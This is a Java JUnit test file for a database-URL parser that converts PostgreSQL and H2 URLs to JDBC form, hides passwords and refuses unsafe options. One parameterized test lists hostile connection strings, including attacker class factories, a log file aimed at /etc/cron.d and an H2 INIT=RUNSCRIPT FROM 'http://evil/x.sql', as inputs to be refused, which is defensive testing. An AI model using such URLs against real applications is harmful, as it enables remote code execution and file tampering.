/// Reading database URLs; nothing secret is ever shown.
package dev.touchline.data;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.touchline.fault.Fault;
import java.nio.file.Path;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseAddressTest {
  private static DatabaseAddress read(@Nullable String url) {
    return DatabaseAddress.of(url, Path.of("/home/me;x"), Map.of());
  }

  @ParameterizedTest
  @CsvSource(
      nullValues = "-",
      value = {
        "postgresql://u:p@h:5433/db, jdbc:postgresql://h:5433/db, u, p",
        "postgres://u@h/db, jdbc:postgresql://h/db, u, -",
        "postgresql://u:p%40%2F+x@h/db, jdbc:postgresql://h/db, u, p@/+x",
        "postgresql://u:p@ss@h/db, jdbc:postgresql://h/db, u, p@ss",
        "postgresql://u:100%@h/db, jdbc:postgresql://h/db, u, 100%",
        "postgresql://h/db?user=u&password=p&sslmode=require,"
            + " jdbc:postgresql://h/db?sslmode=require, u, p",
        "jdbc:postgresql://h/db?password=p&user=u&ssl=true, jdbc:postgresql://h/db?ssl=true, u, p",
        "jdbc:postgresql:db, jdbc:postgresql://localhost/db, -, -",
        "postgresql:///db, jdbc:postgresql://localhost/db, -, -",
        "postgresql://[::1]:5432/db, jdbc:postgresql://[::1]:5432/db, -, -",
        "'postgresql://a:1,b:2/db', 'jdbc:postgresql://a:1,b:2/db', -, -",
        "postgresql://h/db?connect_timeout=5, jdbc:postgresql://h/db?connectTimeout=5, -, -",
        "jdbc:h2:mem:x;USER=u;DB_CLOSE_DELAY=-1;password=p,"
            + " jdbc:h2:mem:x;DB_CLOSE_DELAY=-1, u, p"
      })
  void readsUrls(String url, String jdbc, @Nullable String user, @Nullable String password) {
    assertThat(read(url)).isEqualTo(new DatabaseAddress(jdbc, user, password, false));
  }

  @Test
  void withoutUrlItIsTheEmbeddedDatabaseOfTheHome() {
    DatabaseAddress address = read(null);
    assertThat(address.embedded()).isTrue();
    assertThat(address.jdbcUrl()).isEqualTo("jdbc:h2:file:/home/me\\;x/database/touchline");
    assertThat(address.describe()).isEqualTo("/home/me;x/database/touchline");
    assertThat(read(" ")).isEqualTo(address);
  }

  @Test
  void showsNoSecret() {
    for (String url :
        new String[] {
          "postgresql://u:secret77@h/db?sslpassword=secret77",
          "jdbc:postgresql://h/db?user=u&password=secret77",
          "jdbc:h2:mem:x;PASSWORD=secret77"
        }) {
      assertThat(read(url).describe() + read(url)).doesNotContain("secret77");
    }
    assertThat(read("postgresql://u:secret77@h/db?ssl=true").describe())
        .isEqualTo("postgresql://h/db");
  }

  @Test
  void theEnvironmentServesWhereTheUrlIsSilent() {
    Map<String, String> environment = Map.of("PGUSER", "eve", "PGPASSWORD", "pw");
    assertThat(DatabaseAddress.of("postgresql://h/db", Path.of(""), environment))
        .isEqualTo(new DatabaseAddress("jdbc:postgresql://h/db", "eve", "pw", false));
    assertThat(DatabaseAddress.of("postgresql://u:p@h/db", Path.of(""), environment).user())
        .isEqualTo("u");
  }

  /// What makes the drivers load classes, run scripts, write files or reach over the network.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgresql://h/db?socketFactory=org.evil.Factory&socketFactoryArg=x",
        "postgresql://h/db?sslfactory=org.evil.Factory",
        "postgresql://h/db?SslHostnameVerifier=org.evil.Verifier",
        "jdbc:postgresql://h/db?authenticationPluginClassName=org.evil.Plugin",
        "postgresql://h/db?loggerLevel=TRACE&loggerFile=/etc/cron.d/evil",
        "postgresql://h/db?xmlFactoryFactory=org.evil.Xml",
        "postgresql://h/db?%73ocketFactory=org.evil.Factory",
        "postgresql://u:secret77@h/db?secret77",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x; init =RUNSCRIPT FROM '/tmp/x.sql'",
        "jdbc:h2:mem:x\\\\;INIT=RUNSCRIPT FROM '/tmp/x.sql'",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
        "jdbc:h2:tcp://evil/db",
        "JDBC:H2:SSL://evil/db",
        "jdbc:h2:zip:/tmp/x.zip!/db"
      })
  void refusesWhatDriversCouldBeMisusedBy(String url) {
    Fault fault = catchThrowableOfType(Fault.class, () -> read(url));
    assertThat(fault.kind()).isEqualTo(Fault.Kind.USAGE);
    assertThat(fault.getMessage() + fault.remedy()).doesNotContain("secret77", "evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mysql://u:secret77@h/db",
        "secret77",
        "postgresql://u:secret77?x@h/db",
        "postgresql://u:secret77@h:port/db",
        "postgresql://u:secret77@h",
        "postgresql://u:secret77@h/"
      })
  void refusesOthersWithoutQuotingThem(String url) {
    Fault fault = catchThrowableOfType(Fault.class, () -> read(url));
    assertThat(fault.kind()).isEqualTo(Fault.Kind.USAGE);
    assertThat(fault.getMessage() + fault.remedy()).doesNotContain("secret77");
  }
}
